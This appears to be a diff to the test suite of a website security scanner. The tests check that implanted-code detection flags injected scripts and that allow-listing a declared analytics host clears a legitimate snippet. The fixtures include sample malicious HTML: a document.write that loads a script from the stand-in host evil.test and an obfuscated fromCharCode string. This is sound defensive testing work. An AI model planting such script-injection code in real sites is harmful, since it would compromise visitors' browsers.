@@ -93,9 +93,10 @@ def test_dates_and_implanted_code():
     facts = _facts("<html><body><script>document.write('<script src=\"http://evil.test/x.js\"></scr'+'ipt>')"
                    "</script><script>var s=String.fromCharCode(" + ",".join(["104"] * 30) + ");</script>"
                    "<iframe src='/own.html' width=0 height=0></iframe></body></html>")
-    assert any("writes an <script> from evil.test" in m for m in facts.malicious)
-    assert any("fromCharCode" in m for m in facts.malicious)
-    assert not any("own.html" in m for m in facts.malicious)  # the site's own zero-size frame is no 挂马
+    found = [str(m) for m in facts.malicious]
+    assert any("writes an <script> from evil.test" in m for m in found)
+    assert any("fromCharCode" in m for m in found)
+    assert not any("own.html" in m for m in found)  # the site's own zero-size frame is no 挂马
 
 
 def test_mask():
@@ -212,3 +213,22 @@ def test_gambling_words_count_on_links_that_leave_the_site():
     (bad,) = [v for v in _content(decl, crawl, decl.home) if v.rule == "security.bad_links"]
     assert bad.status == "fail" and len(bad.evidence) == 2
     assert "x.test" in bad.evidence[0] and "y.test" in bad.evidence[1]  # the site's own crackdown news is not
+
+
+def test_an_old_style_statistics_snippet_is_no_malicious_code_once_its_host_is_declared():
+    from sentinel.websites.crawl import Crawl, Fetch
+    from sentinel.websites.judge import _content
+
+    # Baidu Tongji's old snippet writes its script through unescape(), as implanted code does
+    snippet = ("<html><body><script>var _bdhmProtocol = ((\"https:\" == document.location.protocol) ? "
+               "\" https://\" : \" http://\");document.write(unescape(\"%3Cscript src='\" + _bdhmProtocol + "
+               "\"hm.baidu.com/h.js%3Fabc' type='text/javascript'%3E%3C/script%3E\"));</script></body></html>")
+    facts = _facts(snippet)
+    (suspect,) = facts.malicious
+    assert "document.write of unescaped text" in str(suspect) and suspect.hosts == ("hm.baidu.com",)
+    crawl = Crawl(fetches={"http://site.test/": Fetch(url="http://site.test/", depth=0, referrer=None, status=200,
+                                                      facts=facts)})
+    for allowed, status in (([], "fail"), (["hm.baidu.com"], "pass")):
+        decl = SiteDeclaration.model_validate({"urls": ["http://site.test/"], "allowed_hosts": allowed})
+        (v,) = [v for v in _content(decl, crawl, decl.home) if v.rule == "security.malicious_code"]
+        assert v.status == status, (allowed, v)
